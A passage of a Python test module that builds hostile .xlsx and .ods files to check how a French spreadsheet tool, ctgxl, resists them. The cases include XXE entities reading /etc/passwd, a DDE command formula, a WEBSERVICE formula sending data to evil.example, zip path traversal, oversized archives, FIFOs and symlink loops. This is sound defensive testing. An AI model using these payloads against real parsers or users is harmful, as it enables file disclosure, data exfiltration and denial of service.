               [Sheet("Identification", sheet_xml(identification("Service XXE"))),
                Sheet("Plan d'actions", xxe_sheet())])
    return Case("entite-externe-feuille.xlsx", ("fichier-illisible",), 1,
                "entité externe (file:///etc/passwd) dans une feuille", never=(PASSWD,))


@case
def external_entity_custom(folder: Path) -> Case:
    write_xlsx(folder / "entite-externe-proprietes.xlsx", sheets_of(good_sheets("XXEPROP")),
               custom=custom_xml(external_entity(), entity="&xxe;"))
    return Case("entite-externe-proprietes.xlsx", (), 0,
                "entité externe dans docProps/custom.xml (propriétés ctgxl)", never=(PASSWD,))


@case
def external_entity_styles(folder: Path) -> Case:
    write_xlsx(folder / "entite-externe-styles.xlsx", sheets_of(good_sheets("XXESTY")),
               styles=styles_xml(external_entity(), percent=True).replace('formatCode="0.0%"', 'formatCode="&xxe;"'))
    return Case("entite-externe-styles.xlsx", ("fichier-illisible",), 2, "entité externe dans xl/styles.xml",
                readable=False, never=(PASSWD,))


@case
def far_cell(folder: Path) -> Case:
    grid = plan("XFD")
    grid[1][7] = Formula("1+1", 2)  # a formula, so that openpyxl is asked too
    sheet = sheet_xml(grid, dimension="A1:XFD1048576",
                      extra_cells=((1048576, '<c r="XFD1048576" t="inlineStr"><is><t>fin</t></is></c>'),))
    write_xlsx(folder / "cellule-xfd1048576.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service XFD"))), Sheet("Plan d'actions", sheet)],
               styles=styles_xml(percent=True))
    return Case("cellule-xfd1048576.xlsx", ("feuille-trop-grande",), 1,
                "une vraie cellule en XFD1048576 (17 milliards de cellules annoncées)", in_memory=False)


@case
def far_row_column(folder: Path) -> Case:
    sheet = sheet_xml(plan("XFDA1"), extra_cells=((1048576, '<c r="A1048576"><v>1</v></c>'),))
    sheet = sheet.replace('<row r="1">', '<row r="1"><c r="XFD1" t="inlineStr"><is><t>coin</t></is></c>', 1)
    write_xlsx(folder / "coins-opposes.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service COINS"))), Sheet("Plan d'actions", sheet)])
    return Case("coins-opposes.xlsx", ("feuille-trop-grande",), 1, "cellules en XFD1 et A1048576", in_memory=False)


@case
def claimed_dimension(folder: Path) -> Case:
    grid = plan("DIM")
    grid[1][7] = Formula("1+1", 2)
    write_xlsx(folder / "dimension-geante.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service DIM"))),
                Sheet("Plan d'actions", sheet_xml(grid, dimension="A1:XFD1048576", merged=("K1:XFD1048576",)))],
               styles=styles_xml(percent=True))
    return Case("dimension-geante.xlsx", (), 0,
                "<dimension> et fusion annoncent A1:XFD1048576, trois lignes réelles", in_memory=False)


@case
def cells_without_references(folder: Path) -> Case:
    grid = plan("SANSREF")
    body = sheet_xml(grid)
    body = re.sub(r' r="[A-Z]+[0-9]+"', "", body)  # cells placed by their order only
    body = re.sub(r'<row r="[0-9]+">', "<row>", body)
    wide = "<row>" + '<c t="inlineStr"><is><t>x</t></is></c>' * 600 + "</row>"
    body = body.replace("</sheetData>", wide + "</sheetData>")
    write_xlsx(folder / "cellules-sans-reference.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service SANSREF"))), Sheet("Plan d'actions", body)])
    return Case("cellules-sans-reference.xlsx", ("feuille-trop-grande",), 1,
                "cellules sans référence (placées par leur ordre), 600 sur une ligne", in_memory=False)


@case
def prefixed_tags(folder: Path) -> Case:
    body = sheet_xml(plan("PREFIXE"))
    body = body.replace(f'<worksheet xmlns="{MAIN}"', f'<worksheet xmlns="{MAIN}" xmlns:x="{MAIN}"', 1)
    body = body.replace("</sheetData>", '<x:row r="1048576"><x:c r="XFD1048576" t="inlineStr"><x:is><x:t>z</x:t>'
                                        "</x:is></x:c></x:row></sheetData>")
    write_xlsx(folder / "balises-prefixees.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service PREFIXE"))), Sheet("Plan d'actions", body)])
    return Case("balises-prefixees.xlsx", ("feuille-trop-grande",), 1,
                "cellule en XFD1048576 écrite avec un préfixe d'espace de noms (x:c)", in_memory=False)


@case
def claimed_dimension_openpyxl(folder: Path) -> Case:
    grid = plan("DIMPCT")
    grid[1][7] = Formula("1+1", 2)
    styles = styles_xml(percent=True).replace('<xf numFmtId="0" fontId="0" fillId="0" borderId="0" xfId="0"/>',
                                              '<xf numFmtId="9" fontId="0" fillId="0" borderId="0" xfId="0"/>', 1)
    write_xlsx(folder / "dimension-geante-pourcent.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service DIMPCT"))),
                Sheet("Plan d'actions", sheet_xml(grid, dimension="A1:XFD1048576",
                                                  extra_cells=((1048576, '<c r="A1048576"><v>1</v></c>'),)))],
               styles=styles)
    return Case("dimension-geante-pourcent.xlsx", ("feuille-trop-grande",), 1,
                "<dimension> A1:XFD1048576, une cellule en A1048576 et style par défaut en pourcentage (ce qui fait "
                "lire le classeur par openpyxl aussi)", in_memory=False)


@case
def trapped_consolidated(folder: Path) -> Case:
    provenance = ["Contributeur", "Fichier source", "Feuille source", "Ligne source"]
    rows = plan("CONSO")
    rows[0] += provenance
    rows[1] += ["Service A", "a.xlsx", "Plan d'actions", 2]
    rows[2] += ["Service B", "b.xlsx", "Plan d'actions", 2]
    sources = sheet_xml([["Fichier", "Contributeur", "Contact"], ["a.xlsx", "Service A", "=1+1"]],
                        extra_cells=((1048576, '<c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c>'),))
    write_xlsx(folder / "consolidee-piegee.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service A; Service B"))),
                Sheet("Plan d'actions", sheet_xml(rows)), Sheet("Sources", sources)])
    return Case("consolidee-piegee.xlsx", ("feuille-trop-grande",), 1,
                "classeur « consolidé » dont la feuille Sources (lue par split) a une cellule en XFD1048576",
                in_memory=False)


@case
def ods_repeated(folder: Path) -> Case:
    rows = ods_rows(identification("Service ODS"))
    plan_rows = ods_rows(plan("ODS")) + (
        '<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
        'table:number-columns-repeated="16384" office:value-type="string"><text:p>x</text:p></table:table-cell>'
        "</table:table-row>")
    (folder / "repetitions.ods").write_bytes(ods_bytes([("Identification", rows), ("Plan d'actions", plan_rows)]))
    return Case("repetitions.ods", ("feuille-trop-grande",), 2,
                ".ods dont une cellule est répétée sur 1 048 570 lignes × 16 384 colonnes", readable=False,
                in_memory=False)


@case
def ods_trailing_empty(folder: Path) -> Case:
    rows = ods_rows(identification("Service ODSVIDE"))
    plan_rows = ods_rows(plan("ODSVIDE")) + (
        '<table:table-row table:number-rows-repeated="1048570"><table:table-cell '
        'table:number-columns-repeated="16384"/></table:table-row>')
    (folder / "lignes-vides.ods").write_bytes(ods_bytes([("Identification", rows), ("Plan d'actions", plan_rows)]))
    return Case("lignes-vides.ods", (), 0, ".ods comme LibreOffice l'écrit : lignes vides répétées jusqu'en bas",
                texts=("Action 1 (ODSVIDE)",))


@case
def hidden_only(folder: Path) -> Case:
    write_xlsx(folder / "feuilles-masquees.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service MASQUE")), "hidden"),
                Sheet("Plan d'actions", sheet_xml(plan("MASQUE")), "veryHidden")])
    return Case("feuilles-masquees.xlsx", ("feuille-masquee",), 0, "toutes les feuilles masquées (dont veryHidden)",
                texts=("Action 1 (MASQUE)",))


@case
def merged_header(folder: Path) -> Case:
    headers = list(PLAN_HEADERS)
    headers.insert(4, None)  # "Intitulé de l'action" merged over two columns
    rows = [["Plan d'actions de Dugny"] + [None] * (len(headers) - 1), headers]
    for number in (1, 2):
        values = plan_row("FUSION", number)
        values.insert(4, None)
        rows.append(values)
    write_xlsx(folder / "entete-fusionnee.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service FUSION"))),
                Sheet("Plan d'actions", sheet_xml(rows, merged=(f"A1:{column_letters(len(headers) - 1)}1", "D2:E2")))])
    return Case("entete-fusionnee.xlsx", (), 0, "titre fusionné au-dessus des en-têtes, en-tête fusionné sur deux "
                "colonnes", texts=("Action 1 (FUSION)",))


@case
def two_header_rows(folder: Path) -> Case:
    rows = [list(PLAN_HEADERS), list(PLAN_HEADERS)] + plan("DEUXENT")[1:] + [list(PLAN_HEADERS)] + \
        [plan_row("DEUXENT", 3)]
    write_xlsx(folder / "deux-lignes-entete.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service DEUXENT"))),
                Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("deux-lignes-entete.xlsx", ("entete-repetee",), 0,
                "ligne d'en-têtes répétée (deux fois en haut, une fois au milieu des données)",
                texts=("Action 3 (DEUXENT)",))


@case
def duplicated_headers(folder: Path) -> Case:
    rows = plan("DOUBLON")
    rows[0].append("Objectif")
    rows[1].append("Second objectif gardé")
    rows[2].append("Autre objectif")
    write_xlsx(folder / "entetes-en-double.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service DOUBLON"))),
                Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("entetes-en-double.xlsx", ("colonne-en-double",), 0, "la colonne « Objectif » deux fois",
                texts=("Second objectif gardé",))


@case
def english_headers(folder: Path) -> Case:
    ident = [["Field", "Value"], ["Territory", "Dugny"], ["Territory type", "Municipality"], ["Code", "93030"],
             ["Start", "2023"], ["End", "2027"], ["Department", "Early childhood"]]
    rows = [["Action number", "Theme", "Objective", "Action title", "Lead", "Start year", "Status"],
            ["1", "Early childhood", "More places", "New nursery", "City", 2024, "Ongoing"]]
    write_xlsx(folder / "entetes-anglais.xlsx", [Sheet("Identity", sheet_xml(ident)),
                                                 Sheet("Action plan", sheet_xml(rows))])
    return Case("entetes-anglais.xlsx", ("aucune-feuille-reconnue",), 1, "en-têtes et feuilles en anglais")


@case
def macro_enabled(folder: Path) -> Case:
    write_xlsx(folder / "macros.xlsm", sheets_of(good_sheets("MACRO")), macro=True)
    return Case("macros.xlsm", ("macros-ignorees",), 0, "classeur .xlsm avec un projet VBA (vbaProject.bin)",
                dropped=("vbaProject",), texts=("Action 1 (MACRO)",))


@case
def formula_texts(folder: Path) -> Case:
    rows = plan("FORMULE", rows=3)
    header = rows[0] + ["Lien", "Public cible"]
    rows = [header] + [row + [None, None] for row in rows[1:]]
    position = {name: index for index, name in enumerate(header)}
    rows[1][position["Objectif"]] = '=HYPERLINK("http://x","y")'
    rows[1][position["Intitulé de l'action"]] = "=cmd|' /C calc'!A0"
    rows[1][position["Commentaire de suivi"]] = "@SUM(1+1)"
    rows[2][position["Pilote collectivité"]] = "+1+1"
    rows[2][position["Objectif"]] = "-2+3"
    rows[1][position["Lien"]] = '=HYPERLINK("http://evil.example","clic")'
    rows[1][position["Public cible"]] = Formula('HYPERLINK("http://evil.example","Familles")', "Familles")
    rows[3][position["Public cible"]] = Formula('WEBSERVICE("http://evil.example/?"&A1)', "Jeunes")
    ident = identification("Service FORMULE", Contact="=1+1")
    notes = [["Notes"], ["=2+2"], [Formula("SUM(1,1)", 2)]]
    write_xlsx(folder / "formules-en-texte.xlsx", [Sheet("Identification", sheet_xml(ident)),
                                                   Sheet("Plan d'actions", sheet_xml(rows)),
                                                   Sheet("Notes", sheet_xml(notes))])
    return Case("formules-en-texte.xlsx", (), 0, "textes qui ressemblent à des formules (=HYPERLINK, DDE, @SUM, "
                "+1+1) et vraies formules externes", formula_texts=FORMULA_TEXTS,
                dropped=("WEBSERVICE", "http://evil.example/?"), texts=("Familles", "Jeunes"))


@case
def formula_in_number(folder: Path) -> Case:
    rows = plan("FORMNB")
    rows[0].append("Budget prévisionnel (€)")
    rows[1].append("=1+1")
    rows[2].append("1 000 €")
    write_xlsx(folder / "formule-dans-budget.xlsx", [Sheet("Identification", sheet_xml(identification("Service NB"))),
                                                     Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("formule-dans-budget.xlsx", ("nombre-illisible",), 1, "« =1+1 » tapé dans une colonne de nombres",
                formula_texts=("=1+1",))


@case
def control_characters(folder: Path) -> Case:
    rows = plan("CTRL")
    rows[0].append("Remarque")
    rows[1][2] = "Soutenir_x0007_ les\x01 parents"
    rows[1][3] = "Action\x1b[31m rouge"
    rows[1].append("cloche\x07 et _x0000_ nul")
    rows[2][2] = "non-caractères _xFFFE_ et _xD800_ isolé"
    rows[2].append("tab\tet\nretour")
    write_xlsx(folder / "caracteres-controle.xlsx", [Sheet("Identification", sheet_xml(identification("Service CTRL"))),
                                                     Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("caracteres-controle.xlsx", ("caractere-invalide",), 0,
                "caractères de contrôle (bruts et échappés _x0007_), non-caractères XML et surrogat isolé")


@case
def invalid_xml(folder: Path) -> Case:
    body = sheet_xml(plan("XMLBAD")).encode("utf-8").replace(b"Places cr\xc3\xa9\xc3\xa9es", b"Places \xff\xfe cr\xe9\xe9es", 1)
    write_xlsx(folder / "xml-invalide.xlsx", [Sheet("Identification", sheet_xml(identification("Service XMLBAD"))),
                                              Sheet("Plan d'actions", body)])
    return Case("xml-invalide.xlsx", ("fichier-illisible",), 1, "octets UTF-8 invalides dans le XML d'une feuille")


@case
def long_text(folder: Path) -> Case:
    rows = plan("LONG")
    rows[0].append("Description et modalités")
    rows[1].append(LONG_TEXT)
    rows[2].append("courte")
    write_xlsx(folder / "texte-tres-long.xlsx", [Sheet("Identification", sheet_xml(identification("Service LONG"))),
                                                 Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("texte-tres-long.xlsx", ("texte-trop-long-excel",), 0, "texte de 40 000 caractères (> 32 767)")


@case
def date_1899(folder: Path) -> Case:
    write_xlsx(folder / "date-1899.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service 1899", **{
                   "Début de la convention": "12/05/1899", "Date de mise à jour": "01/01/1800"}))),
                Sheet("Plan d'actions", sheet_xml(plan("D1899")))])
    return Case("date-1899.xlsx", ("date-illisible",), 1, "dates antérieures à 1900 tapées en texte",
                format_texts=("12/05/1899", "01/01/1800"))


@case
def odd_name(folder: Path) -> Case:
    name = "Équipements \"été\" l'an.xlsx"
    rows = [EQUIPMENT_HEADERS, [None, "EAJE", "Crèche « été »", "1 rue de l'Été", "Ville de Dugny", 20]]
    write_xlsx(folder / name, [Sheet("Identification", sheet_xml(identification("Service Été"))),
                               Sheet("Équipements", sheet_xml(rows))])
    return Case(name, (), 0, "nom de fichier avec accents, espaces et guillemets", texts=("Crèche « été »",))


@case
def fake_properties(folder: Path) -> Case:
    write_xlsx(folder / "proprietes-fausses.xlsx", sheets_of(good_sheets("PROPS")),
               custom=custom_xml(kind="../../modele-inconnu", version="99999999999999999999"))
    return Case("proprietes-fausses.xlsx", (), 0, "propriétés ctgxl fausses (modèle inconnu, version absurde)",
                texts=("Action 1 (PROPS)",))


@case
def zip_tricks(folder: Path) -> Case:
    archive = RawZip()
    for name, data in xlsx_parts(sheets_of(good_sheets("ZIPNOM"))):
        archive.add(name, data)
    archive.add("../../../evasion.txt", "hors du dossier")
    archive.add("/tmp/absolu.txt", "chemin absolu")
    archive.write(folder / "zip-chemins.xlsx")
    return Case("zip-chemins.xlsx", (), 0, "membres zip « ../../../evasion.txt » et « /tmp/absolu.txt »",
                texts=("Action 1 (ZIPNOM)",))


@case
def duplicate_members(folder: Path) -> Case:
    archive = RawZip()
    parts = xlsx_parts(sheets_of(good_sheets("DUPZIP")))
    for name, data in parts:
        archive.add(name, data)
    far = sheet_xml(plan("DUPZIP"), extra_cells=((1048576, '<c r="XFD1048576" t="inlineStr"><is><t>z</t></is></c>'),))
    archive.add("xl/worksheets/sheet2.xml", far)
    archive.write(folder / "membres-en-double.xlsx")
    return Case("membres-en-double.xlsx", ("feuille-trop-grande",), 1,
                "deux membres zip de même nom, le second avec une cellule en XFD1048576", in_memory=False)


@case
def many_members(folder: Path) -> Case:
    count = 400_000
    parts, directory = [], []
    offset = 0
    for index in range(count):
        name = b"xl/media/p%06d" % index
        local = struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x5821, 0, 0, 0, len(name), 0) + name
        directory.append(struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x5821, 0, 0, 0,
                                     len(name), 0, 0, 0, 0, 0, offset) + name)
        parts.append(local)
        offset += len(local)
    central = b"".join(directory)
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, count & 0xFFFF, count & 0xFFFF, len(central), offset, 0)
    (folder / "400000-parties.xlsx").write_bytes(b"".join(parts) + central + end)
    return Case("400000-parties.xlsx", ("fichier-trop-gros",), 2,
                "archive de 400 000 parties vides (dont le nombre annoncé est tronqué à 6 784)", readable=False)


@case
def zip_encrypted_member(folder: Path) -> Case:
    archive = RawZip()
    for name, data in xlsx_parts(sheets_of(good_sheets("ZIPCHIF"))):
        archive.add(name, data, flags=1 if name == "xl/workbook.xml" else 0)
    archive.write(folder / "zip-chiffre.xlsx")
    return Case("zip-chiffre.xlsx", ("fichier-illisible",), 2, "membre zip marqué chiffré (chiffrement zip)",
                readable=False)


@case
def zip_unknown_method(folder: Path) -> Case:
    archive = RawZip()
    for name, data in xlsx_parts(sheets_of(good_sheets("ZIPMETH"))):
        archive.add(name, data, method=99 if name == "xl/worksheets/sheet2.xml" else 8)
    archive.write(folder / "zip-methode-inconnue.xlsx")
    return Case("zip-methode-inconnue.xlsx", ("fichier-illisible",), 2,
                "feuille compressée par une méthode inconnue (99)", readable=False)


@case
def special_cells(folder: Path) -> Case:
    rows = plan("SPECIAL", rows=3)
    rows[0] += ["Budget prévisionnel (€)", "Financement Caf (€)"]
    rows[1] += [Raw("", "<v>1e400</v>"), Raw(' t="e"', "<v>#REF!</v>")]
    rows[2] += [Raw("", "<v>NaN</v>"), Raw(' t="b"', "<v>1</v>")]
    rows[3] += [1e308, Raw(' t="str"', "<v>#DIV/0!</v>")]
    write_xlsx(folder / "cellules-speciales.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service SPECIAL"))),
                Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("cellules-speciales.xlsx", ("nombre-illisible",), 1,
                "nombres infini et NaN, erreur #REF!, booléen dans des colonnes de montants")


@case
def missing_shared_string(folder: Path) -> Case:
    rows = plan("SSTABS")
    rows[1][2] = Raw(' t="s"', "<v>99999999</v>")
    write_xlsx(folder / "chaine-partagee-absente.xlsx",
               [Sheet("Identification", sheet_xml(identification("Service SSTABS"))),
                Sheet("Plan d'actions", sheet_xml(rows))])
    return Case("chaine-partagee-absente.xlsx", ("fichier-illisible",), 1,
                "cellule renvoyant à la chaîne partagée n° 99 999 999, qui n'existe pas")


@case
def many_sheets(folder: Path) -> Case:
    sheets = sheets_of(good_sheets("FEUILLES")) + [Sheet(f"Feuille {index}", sheet_xml([[f"note {index}"]]))
                                                    for index in range(300)]
    write_xlsx(folder / "trois-cents-feuilles.xlsx", sheets)
    return Case("trois-cents-feuilles.xlsx", (), 0, "300 feuilles hors standard", joint=False)


@case
def user_lists_sheet(folder: Path) -> Case:
    sheets = sheets_of(good_sheets("LISTES")) + [Sheet("Listes", sheet_xml([["Mes notes"], ["à garder"]]))]
    write_xlsx(folder / "feuille-listes-perso.xlsx", sheets)
    return Case("feuille-listes-perso.xlsx", (), 0, "une feuille « Listes » de l'utilisateur (pas celle de ctgxl)",
                format_texts=("à garder",))


@case
def odd_sheet_names(folder: Path) -> Case:
    sheets = sheets_of(good_sheets("NOMS")) + [
        Sheet(name, sheet_xml([[f"note de « {name} »"]]))
        for name in ("Notes [1]/2*?:\\", "'apostrophes'", "Une feuille au nom beaucoup trop long pour Excel",
                     "=HYPERLINK(\"http://x\")", "Listes", "Lisez-moi")]
    write_xlsx(folder / "noms-de-feuilles.xlsx", sheets)
    return Case("noms-de-feuilles.xlsx", (), 0, "feuilles aux noms interdits par Excel ([ ] / * ? : \\, apostrophes, "
                "plus de 31 caractères, formule) ou réservés (Listes, Lisez-moi)",
                format_texts=("note de « Notes [1]/2*?:\\ »", "note de « 'apostrophes' »", "note de « Listes »",
                              "note de « Lisez-moi »"))


@case
def fifo(folder: Path) -> Case:
    os.mkfifo(folder / "tube.xlsx")
    return Case("tube.xlsx", ("fichier-illisible",), 2, "un tube nommé (FIFO) : l'ouvrir bloquerait", readable=False,
                joint=False)


@case
def fifo_in_folder(folder: Path) -> Case:
    root = folder / "dossier-tube"
    root.mkdir()
    os.mkfifo(root / "tube-annote.xlsx")  # named like an annotated copy, which is looked into
    good_xlsx(root / "bon.xlsx", "TUBE")
    return Case("dossier-tube", ("fichier-illisible",), 2, "dossier avec un tube nommé « tube-annote.xlsx »",
                joint=False)


@case
def many_text_files(folder: Path) -> Case:
    root = folder / "dossier-3000-txt"
    for part in range(3):
        sub = root / f"lot{part}"
        sub.mkdir(parents=True)
        for index in range(1000):
            descriptor = os.open(sub / f"note-{index:04d}.txt", os.O_WRONLY | os.O_CREAT, 0o644)
            os.write(descriptor, b"rien")
            os.close(descriptor)
    good_xlsx(root / "lot1" / "bon.xlsx", "DOSSIER")
    return Case("dossier-3000-txt", (), 0, "dossier de 3 000 fichiers .txt et un classeur", joint=False)


@case
def link_loop(folder: Path) -> Case:
    root = folder / "boucle"
    (root / "sous").mkdir(parents=True)
    good_xlsx(root / "sous" / "bon.xlsx", "BOUCLE")
    os.symlink("..", root / "sous" / "retour")
    os.symlink(".", root / "ici")
    os.symlink("/", root / "racine")  # followed, it would walk the whole disk
    os.symlink("soi.xlsx", root / "soi.xlsx")
    return Case("boucle", ("fichier-illisible",), 2, "dossier avec des liens symboliques en boucle (dont soi.xlsx → "
                "soi.xlsx)", joint=False)


# Cases written in other modules register themselves with @case when imported. Run as a
# script, this module is also the one they import.
sys.modules.setdefault("hostile.corpus", sys.modules[__name__])
sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
import hostile.corpus_crash  # noqa: E402,F401


def build(folder: Path) -> list[Case]:
    """Write every case into ``folder`` (created if needed) and return them."""
    folder = Path(folder)
    folder.mkdir(parents=True, exist_ok=True)
    return [builder(folder) for builder in BUILDERS]


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage : python tests/hostile/corpus.py DOSSIER", file=sys.stderr)
        return 2
    cases = build(Path(argv[0]))
    for item in cases:
        print(f"{item.name:40} sortie {item.exit_code}  {', '.join(item.codes) or '-':28} {item.what}")
    print(f"{len(cases)} cas écrits dans {argv[0]}")
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
